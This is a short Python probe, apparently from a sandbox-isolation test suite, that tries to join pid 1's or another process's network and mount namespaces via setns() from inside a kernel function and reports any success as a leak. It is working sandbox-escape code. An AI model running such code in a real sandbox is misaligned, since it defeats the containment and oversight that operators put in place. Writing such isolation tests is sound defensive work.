"""Attack: setns() into pid 1's (or the parent's) network and mount
namespaces: a way back to the network the sandbox cut off."""
# @@PRELUDE@@


@nki.jit
def kernel(x):
    pids = ["1", "self"] + [str(p) for p in outside_pids()[:1]]
    tried = 0
    for pid in pids:
        for ns, flag in (("net", 0x40000000), ("mnt", 0x00020000)):
            try:
                fd = os.open("/proc/%s/ns/%s" % (pid, ns), os.O_RDONLY)
            except OSError as ex:
                R.note("open %s/ns/%s %s" % (pid, ns, oserr(ex)))
                continue
            tried += 1
            r, e = sys_call("setns", fd, flag)
            os.close(fd)
            if r == 0:
                R.leak("setns(/proc/%s/ns/%s)" % (pid, ns))
            else:
                R.note("setns %s/%s %s" % (pid, ns, ename(e)))
    if not tried:
        r, e = sys_call("setns", -1, 0)           # no namespace file: is the call itself denied?
        R.note("setns(-1) %s" % ename(e))
        if e not in (_errno.EPERM, _errno.ENOSYS, _errno.EACCES):
            R.leak("setns is not denied (%s)" % ename(e))
    R.finish()
